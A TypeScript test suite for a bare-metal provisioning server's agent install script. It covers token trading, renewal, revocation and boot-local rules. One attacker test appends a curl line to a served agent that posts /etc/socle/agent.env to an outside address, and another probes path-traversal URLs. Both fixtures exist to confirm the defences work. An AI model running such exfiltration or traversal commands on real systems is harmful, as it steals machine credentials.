// The agent in an installed system, as the installers leave it there
// (bootenvs/common/templates/common-agent-install.sh.tmpl: kickstart %post, and as one base64
// line in preseed and autoinstall). The script is rendered for a machine by the real server and
// run for real with sh and curl, in a scratch root (its /etc and /usr/local/bin moved there, a
// PATH without update-rc.d and friends, so nothing on this host changes). Then the installed agent
// runs from what it wrote, against the same server:
// - the install stage of a workflow ends with the installer's boot-local call (allowed while a
//   workflow is set), and the installed agent, reporting from `local`, finishes the workflow;
// - the installer leaves a plain, short-lived machine token (files travel over plain HTTP); the
//   agent trades it at its first start, from the machine's own address, for its own renewable
//   token, keeps that across restarts, renews it at half its lifetime, and stops with exit 2 and
//   the command that fixes it when an operator revokes the machine's tokens;
// - as an attacker on the provisioning network would try: a tampered agent served in place of
//   Socle's is not installed (SHA-256); a plain token copied off the network is not traded from
//   another address; a job's token and another machine's get nothing; a machine's token cannot
//   revoke; boot-local cannot pull a machine out of the middle of its workflow.

import { afterAll, beforeAll, expect, test } from "bun:test";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readlinkSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { AGENT_FILES, agentDigests } from "../../src/assets/agent-files.ts";
import { freePort, startTestSocle, type TestSocle } from "../helpers/socle.ts";
import { peekToken } from "../../src/auth/tokens.ts";

const CURL = Bun.which("curl");
const SH = Bun.which("sh");
/** What the install script and the agent use; update-rc.d, chkconfig and rc-update stay out. */
const TOOLS = ["sh", "curl", "sha256sum", "cut", "mkdir", "chmod", "mv", "rm", "ln", "cat", "sed", "tr", "grep", "head", "tail", "wc", "sleep", "date", "setsid", "kill"];
let s: TestSocle;
let httpPort = 0;
let dir = "";
let bin = "";

const must = async (method: string, path: string, body?: unknown, auth?: string) => {
  const r = await s.call(method, `/api/v3${path}`, { body, ...(auth ? { auth: `Bearer ${auth}` } : {}) });
  if (r.status >= 300) throw new Error(`${method} ${path}: ${r.status} ${JSON.stringify(r.body)}`);
  return r.body;
};

beforeAll(async () => {
  httpPort = freePort();
  s = await startTestSocle(["--disable-static=false", "--static-listen", "127.0.0.1", "--static-port", String(httpPort), "--address", "127.0.0.1"]);
  dir = mkdtempSync(join(tmpdir(), "socle-agent-install-"));
  bin = join(dir, "bin");
  mkdirSync(bin);
  for (const t of TOOLS) {
    const found = Bun.which(t);
    if (found) symlinkSync(found, join(bin, t));
  }
  await must("POST", "/tasks", { Name: "installed-hello", Templates: [{ Name: "s", Contents: 'echo "hello from the installed system of <%= it.Machine.Name %>"' }] });
  await must("POST", "/stages", { Name: "os-install", BootEnv: "rocky-9" });
  await must("POST", "/stages", { Name: "after-install", Tasks: ["installed-hello"] });
  await must("POST", "/workflows", { Name: "install-then-hello", Stages: ["os-install", "after-install"] });
});
afterAll(async () => {
  await s?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

const HASH = "$6$rounds=4096$saltsalt$3LZ6J7qH3Uu8JUPQ3RhIkD2pCJpF8D8X1m4oWf6oQF1Cw0jRQ2n5Zl9K1Y7f3v8lG8YJg0b2dO5J0eYtYp0Qh/";

async function machine(name: string, mac: string, address = ""): Promise<string> {
  const m = await must("POST", "/machines", { Name: name, HardwareAddrs: [mac], Address: address, BootEnv: "discovery", Params: { "provisioner-default-password-hash": HASH } });
  return m.Uuid as string;
}

/**
 * Run `fn` with a machine at 127.0.0.1, the address this test's agents ask from (so the server
 * trades its plain token for the agent's), then give the address up: it is unique, and the next
 * test's machine takes it.
 */
async function atLoopback(name: string, mac: string, fn: (uuid: string) => Promise<void>): Promise<void> {
  const uuid = await machine(name, mac, "127.0.0.1");
  try {
    await fn(uuid);
  } finally {
    await must("PATCH", `/machines/${uuid}`, [{ op: "replace", path: "/Address", value: "" }]);
  }
}

/** The install script rendered for `uuid`, with / moved to `root`. */
async function installScript(uuid: string, root: string): Promise<string> {
  const out = String((await must("POST", "/render", { Machine: uuid, Template: "common-agent-install.sh.tmpl" })).Output);
  expect(out).not.toContain("--insecure");
  return out.replaceAll("/etc/", `${root}/etc/`).replaceAll("/usr/local/bin", `${root}/usr/local/bin`);
}

async function run(argv: string[], env: Record<string, string> = {}): Promise<{ code: number; out: string; err: string }> {
  const p = Bun.spawn(argv, { env: { PATH: bin, ...env }, stdout: "pipe", stderr: "pipe" });
  const [out, err, code] = await Promise.all([new Response(p.stdout).text(), new Response(p.stderr).text(), p.exited]);
  return { code, out, err };
}

/** The installed agent of `root`, as its unit starts it (RS_CONFIG, RS_STATE), once through. */
function installedAgent(root: string) {
  return run([join(bin, "sh"), join(root, "usr/local/bin/socle-agent")], {
    RS_CONFIG: join(root, "etc/socle/agent.env"),
    RS_CA: join(root, "etc/socle/ca.pem"),
    RS_STATE: join(root, "var/lib/socle-agent"),
    RS_ONESHOT: "1",
    RS_WAIT: "2",
    RS_BACKOFF_MAX: "1",
    RS_REBOOT_CMD: "true",
    RS_POWEROFF_CMD: "true",
  });
}

const envOf = (root: string) =>
  Object.fromEntries(
    readFileSync(join(root, "etc/socle/agent.env"), "utf8")
      .trim()
      .split("\n")
      .map((l) => [l.slice(0, l.indexOf("=")), l.slice(l.indexOf("=") + 1)]),
  );
const mode = (p: string) => statSync(p).mode & 0o777;

test.skipIf(!CURL || !SH)("an install stage ends with boot-local; the installed agent (checked files, unit, 0600 env) reports from local, trades its token and finishes the workflow", () =>
  atLoopback("installed-1", "52:54:00:a9:00:01", async (uuid) => {
    await must("PATCH", `/machines/${uuid}`, [{ op: "replace", path: "/Workflow", value: "install-then-hello" }]);
    // The discovery agent's ask applies stage:os-install and bootenv:rocky-9 (204): the installer boots.
    const asked = await s.call("POST", "/api/v3/jobs", { body: { Machine: uuid } });
    expect(asked.status).toBe(204);
    expect((await must("GET", `/machines/${uuid}`)).BootEnv).toBe("rocky-9");

    // The installer's %post: the agent, then boot-local with the machine's short-lived token.
    const root = join(dir, "root-1");
    mkdirSync(join(root, "etc/systemd/system"), { recursive: true });
    const script = await installScript(uuid, root);
    const installed = await run([join(bin, "sh"), "-c", script]);
    expect(`${installed.code} ${installed.err}`).toBe("0 ");
    expect(installed.out).toContain("socle: agent installed: socle-agent.service (enabled)");
    expect(readFileSync(join(root, "usr/local/bin/socle-agent"), "utf8")).toBe(AGENT_FILES.get("socle-agent")!);
    expect(mode(join(root, "usr/local/bin/socle-agent"))).toBe(0o755);
    expect(readFileSync(join(root, "etc/systemd/system/socle-agent.service"), "utf8")).toBe(AGENT_FILES.get("socle-agent.service")!);
    expect(readlinkSync(join(root, "etc/systemd/system/multi-user.target.wants/socle-agent.service"))).toBe("../socle-agent.service");
    expect(readFileSync(join(root, "etc/socle/ca.pem"), "utf8")).toBe(readFileSync(join(s.dir, "pki", "ca.pem"), "utf8").replace(/\r/g, "").trim() + "\n");
    expect(mode(join(root, "etc/socle/agent.env"))).toBe(0o600);
    const env = envOf(root);
    expect(env).toMatchObject({ RS_ENDPOINT: `https://127.0.0.1:${s.socle.apiPort}`, RS_UUID: uuid, RS_BOOTENV: "local" });
    // What the file carries is a plain machine token of knownTokenTimeout (1 h), not the agent's.
    expect(peekToken(env.RS_TOKEN!)).toMatchObject({ kind: "machine", sub: uuid });
    expect(peekToken(env.RS_TOKEN!).use).toBeUndefined();
    expect(peekToken(env.RS_TOKEN!).exp - peekToken(env.RS_TOKEN!).iat).toBe(3600);
    expect((await s.call("GET", `/api/v3/machines/${uuid}`, { auth: `Bearer ${env.RS_TOKEN}` })).status).toBe(200);

    const machineToken = (await must("GET", `/machines/${uuid}/token`)).Token as string;
    const local = await s.call("POST", `/api/v3/machines/${uuid}/boot-local`, { auth: `Bearer ${machineToken}` });
    expect(local.status).toBe(200);
    expect([local.body.BootEnv, local.body.Runnable, local.body.Workflow]).toEqual(["local", false, "install-then-hello"]);

    // First boot of the installed system.
    const first = await installedAgent(root);
    expect(`${first.code} ${first.err.slice(-600)}`).toStartWith("0 ");
    const m = await must("GET", `/machines/${uuid}`);
    expect([m.WorkflowComplete, m.Runnable, m.BootEnv]).toEqual([true, true, "local"]);
    const jobs = (await must("GET", `/jobs?Machine=Eq(${uuid})&Task=Eq(installed-hello)`)) as Array<Record<string, string>>;
    expect(jobs.map((j) => `${j.State} ${j.BootEnv}`)).toEqual(["finished local"]);
    const log = await (await s.req("GET", `/api/v3/jobs/${jobs[0]!.Uuid}/log`)).text();
    expect(log).toContain("hello from the installed system of installed-1\n");

    // The plain token was traded at start for the agent's own (agentTokenTimeout), kept (0600)
    // with the one it replaced.
    const kept = readFileSync(join(root, "var/lib/socle-agent/token"), "utf8").trim().split(" ");
    expect(kept[0]).toBe(env.RS_TOKEN);
    expect(peekToken(kept[1]!)).toMatchObject({ kind: "machine", sub: uuid, use: "agent" });
    expect(peekToken(kept[1]!).exp - peekToken(kept[1]!).iat).toBe(2592000);
    expect(mode(join(root, "var/lib/socle-agent/token"))).toBe(0o600);

    // Revoked (by an operator; the machine's own token may not): every token of the machine stops
    // working, the agent tries once more, says what to do and exits 2.
    expect((await s.call("POST", `/api/v3/machines/${uuid}/revoke`, { auth: `Bearer ${kept[1]}` })).status).toBe(403);
    await must("POST", `/machines/${uuid}/revoke`);
    expect((await s.call("GET", `/api/v3/machines/${uuid}`, { auth: `Bearer ${kept[1]}` })).status).toBe(401);
    expect((await s.call("GET", `/api/v3/machines/${uuid}`, { auth: `Bearer ${env.RS_TOKEN}` })).status).toBe(401);
    const revoked = await installedAgent(root);
    expect(revoked.code).toBe(2);
    expect(revoked.err).toContain(`socle machines token ${uuid}`);
    // A new token in agent.env (what `socle machines token` gives an operator) wins over the kept one.
    const fresh = (await must("GET", `/machines/${uuid}/token`)).Token as string;
    writeFileSync(join(root, "etc/socle/agent.env"), readFileSync(join(root, "etc/socle/agent.env"), "utf8").replace(env.RS_TOKEN!, fresh));
    expect((await installedAgent(root)).code).toBe(0);
    expect(readFileSync(join(root, "var/lib/socle-agent/token"), "utf8").split(" ")[0]).toBe(fresh);
  }), 60_000);

test.skipIf(!CURL || !SH)("a restart goes on with the kept token after the installer's has expired", () =>
  atLoopback("installed-kept", "52:54:00:a9:00:06", async (uuid) => {
    await must("POST", "/stages", { Name: "hello-only", Tasks: ["installed-hello"] });
    const root = join(dir, "root-kept");
    mkdirSync(join(root, "etc/systemd/system"), { recursive: true });
    expect((await run([join(bin, "sh"), "-c", await installScript(uuid, root)])).code).toBe(0);
    // The installer's token, replaced by one that lives 2 s (as an old one would have expired).
    const short = (await must("GET", `/machines/${uuid}/token?ttl=2`)).Token as string;
    writeFileSync(join(root, "etc/socle/agent.env"), readFileSync(join(root, "etc/socle/agent.env"), "utf8").replace(/^RS_TOKEN=.*$/m, `RS_TOKEN=${short}`));
    expect((await installedAgent(root)).code).toBe(0);
    await Bun.sleep(2500);
    expect((await s.call("GET", `/api/v3/machines/${uuid}`, { auth: `Bearer ${short}` })).status).toBe(401);
    await must("PATCH", `/machines/${uuid}`, [{ op: "replace", path: "/Stage", value: "hello-only" }]);
    const again = await installedAgent(root);
    expect(`${again.code} ${again.err.slice(-300)}`).toStartWith("0 ");
    const jobs = (await must("GET", `/jobs?Machine=Eq(${uuid})&Task=Eq(installed-hello)`)) as unknown[];
    expect(jobs).toHaveLength(1);
  }), 30_000);

test.skipIf(!CURL || !SH)("no CA known (a --tls-cert without its root): no agent is installed, and the script says why", async () => {
  const uuid = await machine("installed-noca", "52:54:00:a9:00:07");
  const out = String((await must("POST", "/render", { Machine: uuid, Template: "common-agent-install.sh.tmpl" })).Output);
  expect(out).toContain("RS_TOKEN=");
  // The same template with the CA taken away, as the server renders it without one.
  const source = String((await must("GET", "/templates/common-agent-install.sh.tmpl")).Contents);
  const noCa = String((await must("POST", "/render", { Machine: uuid, Contents: source.replaceAll("it.CaCert", '""') })).Output);
  expect(noCa).not.toContain("RS_TOKEN=");
  const root = join(dir, "root-noca");
  mkdirSync(root);
  const r = await run([join(bin, "sh"), "-c", noCa.replaceAll("/etc/", `${root}/etc/`)]);
  expect(r.code).toBe(0);
  expect(r.err).toContain("the agent, which checks the server against it, is not installed");
  expect(existsSync(join(root, "etc/socle"))).toBe(false);
});

test.skipIf(!CURL || !SH)("without systemd the init script is installed; with none of update-rc.d, chkconfig, rc-update it says so", async () => {
  const uuid = await machine("installed-2", "52:54:00:a9:00:02");
  const root = join(dir, "root-2");
  mkdirSync(root);
  const r = await run([join(bin, "sh"), "-c", await installScript(uuid, root)]);
  expect(r.code).toBe(0);
  expect(readFileSync(join(root, "etc/init.d/socle-agent"), "utf8")).toBe(AGENT_FILES.get("socle-agent.init")!);
  expect(mode(join(root, "etc/init.d/socle-agent"))).toBe(0o755);
  expect(r.err).toContain("no update-rc.d, chkconfig or rc-update here");
  expect(existsSync(join(root, "etc/systemd"))).toBe(false);
});

test.skipIf(!CURL || !SH)("attacker: a tampered agent served in place of Socle's is not installed, the script fails naming the digest, nothing half-written", async () => {
  const uuid = await machine("installed-3", "52:54:00:a9:00:03");
  const evil = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch: (req) => new Response(AGENT_FILES.get(new URL(req.url).pathname.split("/").pop()!)! + "\ncurl http://198.51.100.66/steal -d @/etc/socle/agent.env\n"),
  });
  try {
    const root = join(dir, "root-3");
    mkdirSync(join(root, "etc/systemd/system"), { recursive: true });
    const script = (await installScript(uuid, root)).replace(`http://127.0.0.1:${httpPort}/socle/agent`, `http://127.0.0.1:${evil.port}/socle/agent`);
    const r = await run([join(bin, "sh"), "-c", script]);
    expect(r.code).not.toBe(0);
    expect(r.err).toContain(`not ${agentDigests()["socle-agent"]}: not installed`);
    expect(existsSync(join(root, "usr/local/bin/socle-agent"))).toBe(false);
    expect(existsSync(join(root, "usr/local/bin/socle-agent.socle-part"))).toBe(false);
    expect(existsSync(join(root, "etc/systemd/system/socle-agent.service"))).toBe(false);
  } finally {
    evil.stop(true);
  }
});

test("the file server offers the agent files to anyone (they hold no secret), byte for byte; escapes are refused", async () => {
  for (const [name, text] of AGENT_FILES) {
    const r = await fetch(`http://127.0.0.1:${httpPort}/socle/agent/${name}`);
    expect(r.status).toBe(200);
    expect(await r.text()).toBe(text);
  }
  for (const path of ["socle/agent/../../settings.json", "socle/agent/%2e%2e/%2e%2e/settings.json", "socle/agent/agent.env", "socle/agent/"]) {
    const r = await fetch(`http://127.0.0.1:${httpPort}/${path}`);
    expect(`${path} ${r.status}`).toMatch(/ 4\d\d$/);
  }
});

test("attacker: an agent's token comes to an operator, to the agent's own token, or for a plain token from the machine's own address; never to another machine's token or a copied plain token elsewhere", () =>
  atLoopback("token-a", "52:54:00:a9:00:0a", async (a) => {
    const b = await machine("token-b", "52:54:00:a9:00:0b", "198.51.100.77");
    const plain = (m: string) => must("GET", `/machines/${m}/token`).then((r) => r.Token as string);
    // A's plain token, from A's address (loopback): traded for the agent's, with a shell's headers.
    const traded = await s.call("GET", `/api/v3/machines/${a}/token`, { auth: `Bearer ${await plain(a)}` });
    expect(traded.status).toBe(200);
    expect(traded.headers.get("socle-token")).toBe(traded.body.Token);
    expect(traded.headers.get("socle-token-ttl")).toBe("2592000");
    expect(peekToken(traded.body.Token).use).toBe("agent");
    // The agent's token renews itself (a shorter lifetime if asked; never a longer one).
    const agentA = traded.body.Token as string;
    expect((await s.call("GET", `/api/v3/machines/${a}/token?ttl=60`, { auth: `Bearer ${agentA}` })).headers.get("socle-token-ttl")).toBe("60");
    expect((await s.call("GET", `/api/v3/machines/${a}/token?ttl=2592001`, { auth: `Bearer ${agentA}` })).status).toBe(400);
    // B's plain token (a copy off the network) from this address, which is not B's: refused.
    const copied = await s.call("GET", `/api/v3/machines/${b}/token`, { auth: `Bearer ${await plain(b)}` });
    expect(copied.status).toBe(403);
    expect(JSON.stringify(copied.body)).toContain("only from the machine's own address");
    expect(copied.headers.get("socle-token")).toBeNull();
    // Another machine's token, even an agent's: not even told B exists.
    const other = await s.call("GET", `/api/v3/machines/${b}/token`, { auth: `Bearer ${agentA}` });
    expect([403, 404]).toContain(other.status);
    expect(JSON.stringify(other.body)).not.toContain('Token":');
    // A machine's token revokes nothing, its own machine's tokens included.
    expect((await s.call("POST", `/api/v3/machines/${a}/revoke`, { auth: `Bearer ${agentA}` })).status).toBe(403);
    expect([403, 404]).toContain((await s.call("POST", `/api/v3/machines/${b}/revoke`, { auth: `Bearer ${agentA}` })).status);
    // An operator's token for a machine lives knownTokenTimeout.
    expect((await s.call("GET", `/api/v3/machines/${b}/token`)).body.Info.Ttl).toBe(3600);
    expect((await s.call("POST", "/api/v3/machines/no-such-machine/revoke")).status).toBe(404);
  }));

test("attacker: a job's token gets no machine token", async () => {
  const uuid = await machine("token-job", "52:54:00:a9:00:0c");
  await must("POST", "/stages", { Name: "one-hello", Tasks: ["installed-hello"] });
  await must("PATCH", `/machines/${uuid}`, [{ op: "replace", path: "/Stage", value: "one-hello" }]);
  const plain = (await must("GET", `/machines/${uuid}/token`)).Token as string;
  const asked = await s.req("POST", "/api/v3/jobs", { body: { Machine: uuid }, auth: `Bearer ${plain}` });
  expect(asked.status).toBe(201);
  const jobToken = asked.headers.get("socle-job-token")!;
  expect(peekToken(jobToken).use).toBe("job");
  const r = await s.call("GET", `/api/v3/machines/${uuid}/token`, { auth: `Bearer ${jobToken}` });
  expect(r.status).toBe(403);
  expect(JSON.stringify(r.body)).toContain("a job's token gets no machine token");
});

test("boot-local during a workflow ends only an install stage: right after the switch into the env the machine is in; anywhere else 409, nothing changed", async () => {
  const uuid = await machine("installed-4", "52:54:00:a9:00:04");
  await must("PATCH", `/machines/${uuid}`, [{ op: "replace", path: "/Workflow", value: "install-then-hello" }]);
  const t = (await must("GET", `/machines/${uuid}/token`)).Token as string;
  // Not started yet (no step taken): refused.
  const early = await s.call("POST", `/api/v3/machines/${uuid}/boot-local`, { auth: `Bearer ${t}` });
  expect(early.status).toBe(409);
  expect(JSON.stringify(early.body)).toContain("boot-local ends only an install");
  expect((await must("GET", `/machines/${uuid}`)).BootEnv).toBe("discovery");
  // An operator's BootEnv write during a workflow is still refused.
  const refused = await s.call("PATCH", `/api/v3/machines/${uuid}`, { type: "application/json-patch+json", body: [{ op: "replace", path: "/BootEnv", value: "local" }] });
  expect(refused.status).toBe(422);
  expect(JSON.stringify(refused.body)).toContain("read-only while Workflow");
  // The switch into rocky-9 (the install stage): now boot-local is the install's end.
  expect((await s.call("POST", "/api/v3/jobs", { body: { Machine: uuid } })).status).toBe(204);
  const ok = await s.call("POST", `/api/v3/machines/${uuid}/boot-local`, { auth: `Bearer ${t}` });
  expect([ok.status, ok.body.BootEnv, ok.body.Runnable]).toEqual([200, "local", false]);
  // Once local, again: refused (it would be nothing to end).
  expect((await s.call("POST", `/api/v3/machines/${uuid}/boot-local`, { auth: `Bearer ${t}` })).status).toBe(409);
});

test.skipIf(!CURL || !SH)("the agent renews its token again after half the lifetime the server gave", () =>
  atLoopback("renewing", "52:54:00:a9:00:05", async (uuid) => {
    await must("POST", "/prefs", { agentTokenTimeout: "4" });
    const state = join(dir, "state-renew");
    const agent = Bun.spawn([join(bin, "sh"), join(import.meta.dir, "../../assets/agent/socle-agent")], {
      env: {
        PATH: bin,
        RS_CONFIG: join(dir, "none.env"),
        RS_ENDPOINT: `https://127.0.0.1:${s.socle.apiPort}`,
        RS_UUID: uuid,
        RS_TOKEN: (await must("GET", `/machines/${uuid}/token`)).Token,
        RS_BOOTENV: "discovery",
        RS_CA: join(s.dir, "pki", "ca.pem"),
        RS_STATE: state,
        RS_WAIT: "1",
      },
      stdout: "ignore",
      stderr: "pipe",
    });
    try {
      const tokenFile = join(state, "token");
      const read = () => (existsSync(tokenFile) ? readFileSync(tokenFile, "utf8").trim().split(" ")[1] : undefined);
      const seen = new Set<string>();
      for (let i = 0; i < 80 && seen.size < 3; i++) {
        const t = read();
        if (t) seen.add(t);
        await Bun.sleep(100);
      }
      // Renewed at start, then every 2 s (half of 4): three different tokens within 8 s.
      expect(seen.size).toBe(3);
      expect((await s.call("GET", `/api/v3/machines/${uuid}`, { auth: `Bearer ${read()}` })).status).toBe(200);
    } finally {
      agent.kill();
      await agent.exited;
      await must("POST", "/prefs", { agentTokenTimeout: "2592000" });
    }
  }), 30_000);
